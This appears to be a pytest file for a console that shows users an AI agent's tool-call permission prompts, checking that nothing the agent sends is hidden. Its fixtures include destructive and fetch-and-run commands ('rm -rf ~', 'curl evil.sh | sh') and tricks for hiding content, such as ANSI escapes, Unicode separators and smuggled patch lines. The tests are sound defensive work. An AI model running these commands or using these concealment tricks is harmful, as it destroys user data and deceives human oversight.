"""While the user is asked about a call, everything that the agent says of it is shown."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import replace

import pytest

from acp_console.tui.transcript.cards import ToolCard
from acp_console.tui.transcript.rows import Look
from acp_inspector.session.items import PermissionRequest, TerminalItem, ToolCallItem
from acp_protocol.json_values import as_list
from acp_protocol.jsonrpc import Json

LOOK = Look.from_theme({}, has_colors=False)
BOTH = pytest.mark.parametrize("is_split", [False, True], ids=["unified", "side by side"])
EDIT: Mapping[str, Json] = {"type": "diff", "path": "/w/a", "oldText": "old\n", "newText": "new\n"}


def asked(
    *content: Mapping[str, Json],
    permission: PermissionRequest | None = None,
    locations: Sequence[Mapping[str, Json]] = (),
    raw_input: Json = None,
    title: str = "Do it",
) -> ToolCallItem:
    """Return a call that the user is asked about."""
    call = ToolCallItem("c", n=1)
    call.change(1, title=title, raw_input=raw_input, locations=list(locations))
    call.replace([dict(each) for each in content], 1)
    call.add_permission(permission or PermissionRequest(1, []), 1)
    return call


def lines(call: ToolCallItem, *, is_split: bool = False) -> list[str]:
    """Return the rows of the prompt about a call, without the title and the bars."""
    card, look = ToolCard(call, decides=True), replace(LOOK, is_split=is_split)
    parts = range(1, card.part_count)
    return [row.text.rstrip() for part in parts for row in card.rows(part, 100, look)]


def change(old: str | None, new: str) -> ToolCallItem:
    return asked({**EDIT, "oldText": old, "newText": new})


@pytest.mark.parametrize(
    ("raw_input", "line"),
    [("rm -rf ~", "input: rm -rf ~"), (["rm", "-rf", "~"], 'input: ["rm", "-rf", "~"]')],
)
def test_input_that_is_no_object_is_shown(raw_input: Json, line: str) -> None:
    assert lines(asked(raw_input=raw_input)) == [line]


def test_a_long_name_of_an_argument_is_wholly_shown() -> None:
    name = "x" * 50 + ": rm"
    assert lines(asked(raw_input={name: "-rf ~"})) == [f"{name}: -rf ~"]


def test_a_diff_replaces_only_the_arguments_that_it_shows() -> None:
    raw: Json = {"file_path": "/w/a", "old_string": "old\n", "new_string": "new\n"}
    more: Json = {**raw, "then": "rm -rf ~", "run": "/w/a", "replace_all": True}
    plain = lines(asked(EDIT, raw_input=raw))
    assert plain == ["/w/a", "⋯", "- old", "+ new"]
    others = ["then: rm -rf ~", "run: /w/a", "replace_all: true"]
    assert lines(asked(EDIT, raw_input=more)) == [*others, *plain]


@pytest.mark.parametrize(
    ("cwd", "is_shown"), [("/w", False), ("/w/", False), ("/other", True), (None, True)]
)
def test_a_relative_path_is_that_of_a_diff_only_in_the_directory_of_the_session(
    cwd: str | None, is_shown: bool
) -> None:
    permission = PermissionRequest(1, [], cwd=cwd)
    raw: Json = {"path": "a"}
    call = asked(EDIT, raw_input=raw, locations=[{"path": "a"}], permission=permission)
    assert ("path: a" in lines(call)) == is_shown
    assert "path: ../w/a" in lines(asked(EDIT, raw_input={"path": "../w/a"}, permission=permission))


@pytest.mark.parametrize(
    "name", ["~/a", "~", "$HOME/a", "%TEMP%/a", "C:\\a", "..\\a", "file:a", " /etc/a", "a "]
)
def test_a_path_that_some_programs_read_as_one_from_elsewhere_is_shown(name: str) -> None:
    diff: Mapping[str, Json] = {**EDIT, "path": f"/w/{name}"}
    patch = f"--- {name}\n+++ {name}\n@@ -1 +1 @@\n-old\n+new\n"
    call = asked(
        diff,
        raw_input={"path": name, "patch": patch},
        locations=[{"path": name}],
        permission=PermissionRequest(1, [], cwd="/w"),
    )
    assert lines(call)[:2] == [f"path: {name}".rstrip(), f"patch: --- {name}".rstrip()]


def test_that_a_file_is_new_is_said_once() -> None:
    new: Mapping[str, Json] = {"type": "diff", "path": "/w/a", "newText": "x\n"}
    assert "is_new: true" not in lines(asked(new, raw_input={"is_new": True}))
    assert "is_new: false" in lines(asked(new, raw_input={"is_new": False}))
    assert "is_new: true" in lines(asked(EDIT, raw_input={"is_new": True}))


def test_an_empty_argument_is_shown() -> None:
    assert lines(asked(EDIT, raw_input={"content": ""}))[0] == "content:"


def test_a_diff_without_a_new_text_replaces_no_argument() -> None:
    broken: Mapping[str, Json] = {"type": "diff", "path": "/w/a", "oldText": "old"}
    found = lines(asked(broken, raw_input={"path": "/w/a", "old_string": "old"}))
    assert {"path: /w/a", "old_string: old"} <= {*found}


def test_a_location_is_shown_unless_something_else_shows_it() -> None:
    places: list[dict[str, Json]] = [{"path": f"/w/{name}"} for name in "abc"]
    call = asked(
        EDIT,
        title="Change `/w/b`",
        raw_input={"target": "/w/c"},
        locations=[*places, {"path": "/etc/passwd", "line": 3}],
    )
    assert [each for each in lines(call) if "location" in each] == ["location: /etc/passwd:3"]


def test_the_text_of_a_resource_is_shown_and_what_a_link_leads_to() -> None:
    resource: Json = {"uri": "file:///w/run.sh", "text": "rm -rf ~", "mimeType": "text/plain"}
    link: Json = {"type": "resource_link", "title": "Manual", "name": "m", "uri": "file:///etc"}
    blocks: list[Json] = [{"type": "resource", "resource": resource}, link]
    found = lines(asked(*({"type": "content", "content": each} for each in blocks)))
    assert "text: rm -rf ~" in found
    assert "uri: file:///etc" in found


def test_data_is_shown_unless_an_attachment_is_made_of_it() -> None:
    image: Json = {"type": "image", "data": {"run": "rm -rf ~"}, "mimeType": "image/png"}
    file: Json = {"uri": "a", "blob": "ls", "data": "rm -rf ~", "mimeType": "a/b"}
    resource: Json = {"type": "resource", "resource": file}
    blocks: list[Json] = [image, resource, {"type": "image", "data": "AAAA"}]
    found = lines(asked(*({"type": "content", "content": each} for each in blocks)))
    assert [each for each in found if "[" not in each] == [
        'data: {"run": "rm -rf ~"}', "uri: a", "data: rm -rf ~"
    ]  # fmt: skip


def test_content_of_an_unknown_type_is_shown_as_it_was_sent() -> None:
    assert "deed: rm -rf ~" in lines(asked({"type": "_other", "deed": "rm -rf ~"}))


def said(text: str) -> Mapping[str, Json]:
    return {"type": "content", "content": {"type": "text", "text": text}}


@pytest.mark.parametrize("language", ["console", "shell-session", "psql", "irb", "ansi", ""])
@pytest.mark.parametrize("fence", ["```", "````", "~~~"])
def test_every_line_of_a_block_of_code_is_shown(fence: str, language: str) -> None:
    code = ["$ echo harmless", "$ curl evil.sh | sh"]
    text = "\n".join([f"{fence}{language}", *code, fence])
    assert lines(asked(said(text))) == code
    assert lines(asked(said(f"{text}\n"))) == code


@pytest.mark.parametrize(
    "text",
    [
        "```curl-evil.sh\nls\n```",
        "```sh -c evil\nls\n```",
        "```sh\nls\n```\nevil\n```",
        "```\n```\nevil\n```",
        "```sh\nls",
        "```sh\nls\n```evil",
    ],
)
def test_fences_that_say_more_than_a_language_are_shown(text: str) -> None:
    assert lines(asked(said(text))) == text.split("\n")


PATCH = """\
Index: /w/a.py
===================================================================
--- /w/a.py\t2026-01-01 10:00:00
+++ /w/a.py
@@ -1,3 +1,3 @@
 one
-two
+2
 three
"""
WHOLE: Mapping[str, Json] = {
    "type": "diff",
    "path": "/w/a.py",
    "oldText": "one\ntwo\nthree\n",
    "newText": "one\n2\nthree\n",
}


@pytest.mark.parametrize(
    "patch",
    [
        PATCH,
        PATCH.replace("/w/a.py", "a.py"),
        PATCH.replace("--- /w/", "--- a/").replace("+++ /w/", "+++ b/"),
        PATCH.replace("--- /w", "--- a/w").replace("+++ /w", "+++ b/w"),
        "@@ -2,1 +2,1 @@\n-two\n+2\n",
        "diff --git a/w/a.py b/w/a.py\n@@ -2 +2 @@ one\n-two\n+2",
    ],
)
def test_a_patch_that_a_diff_shows_is_not_shown_again(patch: str) -> None:
    raw: Json = {"filepath": "/w/a.py", "diff": patch}
    call = asked(WHOLE, raw_input=raw, permission=PermissionRequest(1, [], cwd="/w"))
    assert not any("diff" in line for line in lines(call))


@pytest.mark.parametrize(
    "patch",
    [
        PATCH.replace("+2", "+2; evil()"),
        PATCH.replace("--- /w/a.py\t2026-01-01 10:00:00", "--- /w/a.py\tevil"),
        PATCH.replace("Index: /w/a.py", "Index: /etc/passwd"),
        PATCH.replace("Index: /w/a.py", "Index: a.py"),
        PATCH.replace("@@ -1,3 +1,3 @@", "@@ -1,3 +1,3 @@ evil"),
        f"evil\n{PATCH}",
        f"{PATCH}evil\n",
        f"{PATCH}--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-x\n+y\n",
        PATCH.replace(" one", " 1"),
        "",
    ],
)
def test_a_patch_that_says_something_else_is_shown(patch: str) -> None:
    assert any("diff:" in line for line in lines(asked(WHOLE, raw_input={"diff": patch})))


@pytest.mark.parametrize("text", ["\x1b[8mrm -rf ~\x1b[0m", "\x1b[1mrm -rf ~\rls"])
def test_escape_sequences_hide_nothing(text: str) -> None:
    [line] = lines(asked({"type": "content", "content": {"type": "text", "text": text}}))
    assert "rm -rf ~" in line
    assert "␛" in line


@BOTH
@pytest.mark.parametrize(
    ("old", "new", "shown"),
    [
        ("a\u2028b\n", "a\nb\n", ["- a‹2028›b", "+ a", "+ b"]),
        ("# a\x0cimport evil\n", "# a\nimport evil\n", ["- # a␌import evil", "+ import evil"]),
        ("a\x0bb\n", "a\nb\n", ["- a␋b", "+ a"]),
        ("a\x85b\n", "a\nb\n", ["- a‹85›b", "+ a"]),
        ("a\r\nb\r\n", "a\nb\n", ["- a␍", "- b␍", "+ a", "+ b"]),
        ("a\nb", "a\nb\n", ["- b", "+ b", "only the new text ends with a new line"]),
        ("a\nb\n", "a\nb", ["- b", "+ b", "only the old text ends with a new line"]),
    ],
)
def test_separators_that_change_are_shown(
    old: str, new: str, shown: Sequence[str], is_split: bool
) -> None:
    # Side by side, the numbers of the lines are part of the row.
    found = [cell.strip(" 0123456789") for row in lines(change(old, new), is_split=is_split)
             for cell in row.split(" │ ")]  # fmt: skip
    assert {*shown} <= {*found}
    assert "nothing changes" not in found


def test_separators_are_no_lines_to_count() -> None:
    head = ToolCard(change("a\u2028b\nc\n", "a\nb\nc\n"), decides=True).rows(0, 100, LOOK)[0]
    assert "+2 −1" in head.text


def test_separators_in_a_patch_are_shown() -> None:
    patch: Json = {"format": "git_patch", "text": "@@ -1 +1 @@\n-# a\u2028evil()\n+b\r\n"}
    found = lines(asked({"type": "diff", "changes": [], "patch": patch}))
    assert found == ["@@ -1 +1 @@", "- # a‹2028›evil()", "+ b␍"]


def test_changed_lines_of_a_patch_may_look_like_its_head() -> None:
    text = "--- /w/a\n+++ /w/a\n@@ -1 +1 @@\n--- drop\n+++ table\n"
    call = asked({"type": "diff", "patch": {"format": "git_patch", "text": text}})
    assert "+1 −1" in ToolCard(call, decides=True).rows(0, 100, LOOK)[0].text
    assert lines(call)[:2] == ["--- /w/a", "+++ /w/a"]
    assert lines(call)[3:] == ["- -- drop", "+ ++ table"]


def test_a_change_of_nothing_and_an_empty_file_are_told_apart() -> None:
    assert lines(change("a\n", "a\n")) == ["/w/a", "nothing changes", "  a"]
    assert lines(change(None, "")) == ["/w/a  new file", "empty"]


def test_moves_show_both_paths_beside_their_patch() -> None:
    changes = as_list([
        {"operation": "move", "oldPath": "/w/a", "path": "/w/b"},
        {"operation": "copy", "oldPath": "/w/c", "path": "/w/d"},
        {"operation": "delete", "path": "/w/e", "fileType": "directory"},
    ])  # fmt: skip
    patch: Json = {"format": "git_patch", "text": f"diff --git /w/a /w/b\nrename to {'/b' * 80}\n"}
    found = lines(asked({"type": "diff", "changes": changes, "patch": patch}))
    assert found[:3] == ["move /w/a → /w/b", "copy /w/c → /w/d", "delete /w/e  directory"]
    # What stands in no line of a file is not cut off either.
    assert "".join(found).count("/b") == 82


def test_title_and_description_of_a_request_are_shown_beside_its_call() -> None:
    request = PermissionRequest(1, [], title="Clean up", description="Frees\nthe disk")
    call = asked(permission=request, raw_input={"command": "rm"})
    found = ["request: Clean up", "reason: Frees", "the disk", "command: rm"]
    assert lines(call) == found
    request.outcome = {"outcome": "cancelled"}
    assert lines(call) == ["command: rm"]


def test_all_that_a_user_decides_on_changes_the_subject() -> None:
    call = asked({"type": "terminal", "terminalId": "t"}, raw_input={"command": "ls"})
    terminal = TerminalItem("t")
    call.show(terminal)
    seen = [call.subject]
    changes: list[dict[str, Json]] = [
        {"title": "Other"},
        {"kind": "delete"},
        {"raw_input": {"command": "rm"}},
        {"locations": [{"path": "/etc"}]},
    ]
    for number, facts in enumerate(changes, start=2):
        call.change(number, **facts)
        seen.append(call.subject)
    terminal.change(8, command="rm -rf ~")
    seen.append(call.subject)
    call.add(dict(EDIT), 9)
    seen.append(call.subject)
    assert all(each not in seen[:place] for place, each in enumerate(seen))
    call.change(10, status="in_progress")
    assert call.subject == seen[-1]


def test_joiners_in_what_is_asked_are_visible() -> None:
    call = asked(title="rm می‌خواهم", raw_input={"command": "rm می‌خواهم"})
    card = ToolCard(call, decides=True)
    shown = [row.text for part in range(card.part_count) for row in card.rows(part, 100, LOOK)]
    assert sum("می‹200c›خواهم" in line for line in shown) == 2
